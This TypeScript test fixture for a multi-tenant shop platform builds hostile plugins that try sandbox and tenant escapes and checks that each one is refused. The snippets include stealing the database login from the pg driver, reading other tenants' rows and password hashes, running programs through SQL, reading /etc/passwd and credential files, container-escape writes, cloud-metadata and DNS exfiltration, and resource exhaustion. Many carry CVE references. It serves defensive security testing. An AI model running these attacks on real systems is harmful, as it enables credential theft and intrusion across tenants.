import type { PluginSource } from '../../setup/write-plugin.js'

/** One hostile plugin: what it tries, and what has to come of it. */
export interface Deed {
  readonly name: string
  /** Body of an async function in the worker: what it answers is what it got. */
  readonly code: string
  /** What its try must end with: the refusal's words, or an answer that is no harm. */
  readonly ends: RegExp
  /** Where it is from, if others thought of it first. */
  readonly after?: string
  /** Runs when the plugin is loaded. */
  readonly atLoad?: string
  readonly scopes?: readonly string[]
}

/** What a deed may use: its own `node(module)`, `pg`, the shop's stolen login, and `call` for a socket. */
const means = `
import pg from 'pg'
declare const process: any, Buffer: any, fetch: any, setTimeout: any, SharedArrayBuffer: any, WebAssembly: any
const node = (name: string): any => process.getBuiltinModule(name)
const stolen: { client?: any } = {}
const connect = (pg as any).Client.prototype.connect
;(pg as any).Client.prototype.connect = function (this: any, ...rest: any[]) {
  stolen.client ??= this
  return connect.apply(this, rest)
}
// The shop's own connection was made before we were loaded: whoever asks next tells us its login.
const query = (pg as any).Client.prototype.query
;(pg as any).Client.prototype.query = function (this: any, ...rest: any[]) {
  stolen.client ??= this
  return query.apply(this, rest)
}
const login = (): any => {
  const { host, port, database, user } = stolen.client.connectionParameters
  return { host, port, database, user, password: stolen.client.password }
}
const sql = async (text: string, change: object = {}): Promise<any> => {
  const client = new (pg as any).Client({ ...login(), ...change })
  client.on('error', () => undefined)
  await client.connect()
  try {
    return (await client.query(text)).rows
  } finally {
    await client.end()
  }
}
const call = (to: object): Promise<string> =>
  new Promise((resolve, reject) => {
    const socket = node('net').connect(to)
    socket.on('connect', () => (resolve('connected'), socket.destroy())).on('error', reject)
  })
`

/** A tiny package: a route that does the deed and answers what came of it. */
export const hostile = ({ name, code, atLoad = '', scopes = [] }: Deed): PluginSource => ({
  name,
  scopes: [...scopes],
  files: { 'src/pg.d.ts': "declare module 'pg'\n" },
  source: `
import { Controller, Http, Plugin, Post } from '@shopctl/sdk'
void Http
${means}
${atLoad}
async function deed({ port }: any): Promise<unknown> {
  void port
  ${code}
}
@Controller('/zoo')
class Door {
  @Post('/${name}')
  async open(call: any): Promise<any> {
    try {
      return { got: (await deed(call.body ?? {})) ?? null }
    } catch (error: any) {
      return { refused: \`\${error.code ?? error.name}: \${error.message}\` }
    }
  }
}
@Plugin({ controllers: [Door] })
export default class Hostile {
  constructor(${scopes.length === 0 ? '' : 'readonly http: Http'}) {}
}
`,
})

const refusedBySql = /^refused: (42501|42P01|3D000|28000|22023|42704|0LP01)/

/** Other shops' rows, and the platform's: with the shop's own login, stolen from the driver. */
const database: readonly Deed[] = [
  { name: 'reads-a-neighbours-rows', code: 'return sql("select email from t_globex.customer")', ends: refusedBySql },
  { name: 'becomes-a-neighbours-role', code: 'return sql("set role t_globex; select 1")', ends: refusedBySql },
  {
    name: 'becomes-a-neighbours-session',
    code: 'return sql("set session authorization t_globex")',
    ends: refusedBySql,
  },
  {
    name: 'resets-its-role',
    code: 'return sql("reset role; select current_user <> session_user as other, (select count(*) from t_globex.cart)")',
    ends: refusedBySql,
    after: 'shared login with SET ROLE, as many multi-tenant shops have it',
  },
  {
    name: 'says-that-it-is-a-neighbour',
    code: 'return sql("set app.tenant = \'globex\'; select email from t_globex.customer")',
    ends: refusedBySql,
    after: 'row-level security by a setting',
  },
  {
    name: 'logs-in-to-the-platform',
    code: 'return sql("select 1", { database: "shopctl" })',
    ends: /^refused: (28000|3D000)/,
  },
  {
    name: 'logs-in-as-superuser',
    code: 'return sql("select 1", { user: "postgres", password: "postgres" })',
    ends: /^refused: 28/,
  },
  { name: 'reads-the-passwords', code: 'return sql("select rolpassword from pg_authid")', ends: refusedBySql },
  { name: 'reads-files-by-sql', code: 'return sql("select pg_read_file(\'PG_VERSION\')")', ends: refusedBySql },
  {
    name: 'runs-programs-by-sql',
    code: 'return sql("create temp table t (a text); copy t from program \'id\'")',
    ends: refusedBySql,
    after: 'CVE-2019-9193, a feature of superusers',
  },
  {
    name: 'writes-events-of-a-neighbour',
    code: 'return sql("insert into ev.inbox default values")',
    ends: refusedBySql,
  },
  {
    name: 'ends-other-sessions',
    code: 'return sql("select pg_terminate_backend(pid) from pg_stat_activity where usename <> current_user and pid <> pg_backend_pid()")',
    ends: /^refused: 42501|^got: \[/,
  },
  {
    name: 'takes-every-connection',
    code: `const clients = Array.from({ length: 60 }, () => new (pg as any).Client(login()))
      for (const client of clients) client.on('error', () => undefined)
      const made = await Promise.allSettled(clients.map((client) => client.connect()))
      await Promise.allSettled(clients.map((client) => client.end()))
      const refused: any = made.find(({ status }) => status === 'rejected')
      if (refused) throw refused.reason
      return 'took all'`,
    ends: /^refused: 53300/,
  },
  {
    name: 'takes-everyones-locks',
    code: `const client = new (pg as any).Client(login())
      client.on('error', () => undefined)
      await client.connect()
      await client.query('select pg_advisory_lock(n) from generate_series(1, 1000) n')
      setTimeout(() => client.end().catch(() => undefined), 3000)
      return 'holds them'`,
    ends: /^refused: 42501/,
    after: 'advisory locks belong to the whole database',
  },
  {
    name: 'notifies-everyone',
    code: `for (const channel of ['outbox', 'platform', 'worker:migrate']) await sql(\`notify "\${channel}", 'x'\`)
      return 'told them'`,
    ends: /^got: "told them"/,
    after: 'a NOTIFY of any stranger ends a graphile-worker',
  },
  {
    name: 'fills-the-disk-by-sorting',
    code: 'return sql("select count(*) from (select n, repeat(n::text, 100) as t from generate_series(1, 40000000) n order by t) x")',
    ends: /^refused: 53400|^refused: 57014/,
  },
]

/** The machine's files, processes and network. */
const machine: readonly Deed[] = [
  {
    name: 'reads-the-machines-files',
    code: 'return node("fs").readFileSync("/etc/passwd", "utf8")',
    ends: /^refused: (ERR_ACCESS_DENIED|ENOENT)/,
  },
  {
    name: 'reads-files-by-a-forged-path',
    code: `const path = Buffer.from('/app/kernel/../../etc/passwd')
      return node('fs').readFileSync(path, 'utf8')`,
    ends: /^refused: (ERR_ACCESS_DENIED|ENOENT)/,
    after: 'CVE-2023-32004, CVE-2023-39331: paths as Buffers walked out of the permission model',
  },
  {
    name: 'patches-buffers-to-read-files',
    code: `const write = Buffer.prototype.utf8Write
      Buffer.prototype.utf8Write = function (this: any, ...rest: any[]) { return write.apply(this, rest) }
      try { return node('fs').readFileSync(new Uint8Array(Buffer.from('/app/kernel/../../etc/passwd')), 'utf8') }
      finally { Buffer.prototype.utf8Write = write }`,
    ends: /^refused: (ERR_ACCESS_DENIED|ENOENT)/,
    after: 'CVE-2024-21896',
  },
  {
    name: 'reads-files-by-sqlite',
    code: `const { DatabaseSync } = node('node:sqlite')
      const own = new DatabaseSync('/tmp/own.db')
      own.exec("attach '/etc/passwd' as other")
      return own.prepare('select * from other.sqlite_master').all()`,
    ends: /^refused: ERR_SQLITE_ERROR/,
    after: 'nodejs/node#54269: node:sqlite is outside the permission model',
  },
  {
    name: 'reads-processes-environments',
    code: `const { DatabaseSync } = node('node:sqlite')
      return node('fs').readdirSync('/proc')`,
    ends: /^refused: (ERR_ACCESS_DENIED|ENOENT)/,
  },
  {
    name: 'looks-for-tokens',
    code: `const places = ['/root/.npmrc', '/home', '/root/.ssh', '/root/.aws/credentials', '/var/run/secrets']
      const found = places.filter((place) => { try { node('fs').statSync(place); return true } catch { return false } })
      const words = Object.entries(process.env).filter(([name]) => /TOKEN|KEY|SECRET|PASS|DATABASE|NPM|HOME/i.test(name))
      if (found.length + words.length > 0) return { found, words }
      throw Object.assign(new Error('nothing there'), { code: 'NOTHING' })`,
    ends: /^refused: NOTHING/,
    after: 'Shai-Hulud (npm, 2025), eslint-scope (npm, 2018)',
  },
  {
    name: 'overwrites-its-own-runtime',
    code: "return node('fs').writeFileSync('/proc/self/exe', 'x')",
    ends: /^refused: /,
    after: 'CVE-2019-5736 (runc)',
  },
  {
    name: 'writes-the-core-pattern',
    code: "return node('fs').writeFileSync('/proc/sys/kernel/core_pattern', '|/tmp/x')",
    ends: /^refused: /,
    after: 'the classic way out of a container with a writable /proc/sys',
  },
  {
    name: 'puts-a-link-in-its-sockets-place',
    code: "return node('fs').symlinkSync('/etc/passwd', '/shop/egress.sock.new')",
    ends: /^refused: /,
  },
  {
    name: 'starts-programs',
    code: "return node('child_process').execFileSync('/app/node', ['-e', '0'])",
    ends: /^refused: /,
    after: 'ua-parser-js (npm, 2021): a miner',
  },
  {
    name: 'loads-native-code',
    code: "return process.dlopen({ exports: {} }, '/app/kernel/worker.mjs')",
    ends: /^refused: ERR_DLOPEN_DISABLED|^refused: ERR_ACCESS_DENIED/,
  },
  {
    name: 'asks-for-old-internals',
    code: "return Object.keys(process.binding('spawn_sync'))",
    ends: /^refused: ERR_ACCESS_DENIED/,
    after: 'CVE-2023-32559: process.binding went past the policy',
  },
  {
    name: 'loads-by-the-loaders-back-door',
    code: "return node('module')._load('child_process').execSync('id')",
    ends: /^refused: /,
    after: 'CVE-2023-32002: Module._load',
  },
  {
    name: 'starts-threads',
    code: "return new (node('worker_threads').Worker)('for (;;);', { eval: true }).threadId",
    ends: /^refused: ERR_ACCESS_DENIED/,
  },
  {
    name: 'opens-the-inspector',
    code: "return node('inspector').open(9229)",
    ends: /^refused: |^got: null/,
    after: 'CVE-2023-30587: an inspector in a worker thread',
  },
  { name: 'signals-everyone', code: "return process.kill(-1, 'SIGKILL')", ends: /^refused: (EPERM|ESRCH)/ },
  {
    name: 'becomes-root',
    code: 'return process.setuid(0)',
    ends: /^refused: EPERM/,
    after: 'CVE-2024-22017: setuid and io_uring',
  },
]

const network: readonly Deed[] = [
  { name: 'calls-the-control-api', code: "return call({ port, host: '127.0.0.1' })", ends: /^refused: ECONNREFUSED/ },
  {
    name: 'calls-a-private-network',
    code: "return call({ port: 80, host: '10.0.0.1' })",
    ends: /^refused: ENETUNREACH/,
  },
  {
    name: 'asks-for-the-clouds-secrets',
    code: "return (await fetch('http://169.254.169.254/latest/meta-data/')).status",
    ends: /^refused: /,
    after: 'Capital One, 2019: the metadata service',
  },
  {
    name: 'asks-for-names',
    code: "return node('dns').promises.lookup('stolen.example.com')",
    ends: /^refused: (EAI_AGAIN|ENOTFOUND)/,
    after: 'secrets in names that are asked for',
  },
  {
    name: 'sends-datagrams',
    code: `const socket = node('dgram').createSocket('udp4')
      try {
        return await new Promise((resolve, reject) =>
          socket.send('x', 53, '1.1.1.1', (error: any) => (error ? reject(error) : resolve('sent'))))
      } finally { socket.close() }`,
    ends: /^refused: ENETUNREACH/,
  },
  {
    name: 'calls-abstract-sockets',
    code: "return call({ path: '\\0/tmp/dbus' })",
    ends: /^refused: ECONNREFUSED/,
    after: 'CVE-2020-15257 (containerd-shim)',
  },
  {
    name: 'calls-who-was-not-consented-to',
    code: 'return (await fetch(`http://127.0.0.1:${port}/api/status`)).status',
    ends: /^refused: |^got: 403/,
  },
  {
    name: 'calls-by-an-agent-of-its-own',
    code: `const http = node('http')
      return await new Promise((resolve, reject) =>
        http.get({ host: '127.0.0.1', port, path: '/', agent: new http.Agent() }, (answer: any) => resolve(answer.resume().statusCode))
          .on('error', reject))`,
    ends: /^refused: |^got: 403/,
  },
  {
    name: 'calls-a-name-of-this-machine',
    scopes: ['http:localhost:1'],
    code: "return (await fetch('http://localhost:1/')).status",
    ends: /^refused: |^got: (451|502)/,
    after: 'DNS rebinding: the name was consented to, the address is private',
  },
]

/** The platform's own doors. */
const platform: readonly Deed[] = [
  {
    name: 'says-that-it-is-ready-again',
    code: "for (const kind of ['ready', 'standby', 'drained', 'finished']) process.send({ kind }); return 'said'",
    ends: /^got: "said"/,
  },
  {
    name: 'forges-a-neighbours-log',
    code: "process.stdout.write('\\u001b[2J2026-01-01T00:00:00.000Z globex#1 | forged\\r\\n'); return 'written'",
    ends: /^got: "written"/,
    after: 'CWE-117: terminals and log readers that believe what is printed',
  },
  {
    name: 'poisons-every-object',
    code: "const all: any = Object.prototype; all.polluted = 'yes'; const seen = ({} as any).polluted; delete all.polluted; return seen",
    ends: /^got: "yes"/,
    after: 'prototype pollution: inside the wall around one shop',
  },
]

/** Those that end the worker, or have to be ended: the shop comes back. */
export const fatal: readonly Deed[] = [
  { name: 'ends-the-process', code: 'return process.exit(0)', ends: /^down/ },
  { name: 'aborts-the-process', code: 'return process.abort()', ends: /^down/ },
  { name: 'loops', code: 'for (;;);', ends: /^down/ },
  { name: 'loops-in-promises', code: 'for (;;) await null', ends: /^down/ },
  {
    name: 'backtracks',
    code: "return /^(([a-z])+.)+[A-Z]([a-z])+$/.test('a'.repeat(60))",
    ends: /^down/,
    after: 'CVE-2017-16021 and many more: a regular expression that takes exponential time',
  },
  {
    name: 'hoards-objects',
    code: 'const kept: any[] = []; for (;;) kept.push(new Array(1000).fill({ a: 1 }))',
    ends: /^down/,
  },
  {
    name: 'hoards-buffers',
    code: 'const kept: any[] = []; for (;;) kept.push(Buffer.alloc(10_000_000, 1))',
    ends: /^down|^refused: /,
  },
  {
    name: 'hoards-shared-memory',
    code: 'const kept: any[] = []; for (;;) { const b = new SharedArrayBuffer(10_000_000); new Uint8Array(b).fill(1); kept.push(b) }',
    ends: /^down|^refused: /,
  },
  {
    name: 'hoards-wasm-memory',
    code: 'const kept: any[] = []; for (;;) { const m = new WebAssembly.Memory({ initial: 200 }); new Uint8Array(m.buffer).fill(1); kept.push(m) }',
    ends: /^down|^refused: /,
  },
  {
    name: 'hoards-strings',
    code: "let text = 'x'.repeat(1e6); const kept: string[] = []; for (let i = 0; ; i++) kept.push(Buffer.from(text + i).toString('latin1'))",
    ends: /^down|^refused: /,
  },
  {
    name: 'floods-the-channel',
    code: "const message = { kind: 'failed', message: 'x'.repeat(1e8) }; process.send(message); return 'sent'",
    ends: /^down|^got/,
  },
  {
    name: 'writes-nonsense-to-the-channel',
    code: "node('fs').writeSync(3, 'nonsense\\n'); await new Promise((r) => setTimeout(r, 5000)); return 'written'",
    ends: /^down|^refused/,
    after: "Node's own channel throws in the parent on a line that is no JSON",
  },
]

export const zoo: readonly Deed[] = [...database, ...machine, ...network, ...platform]
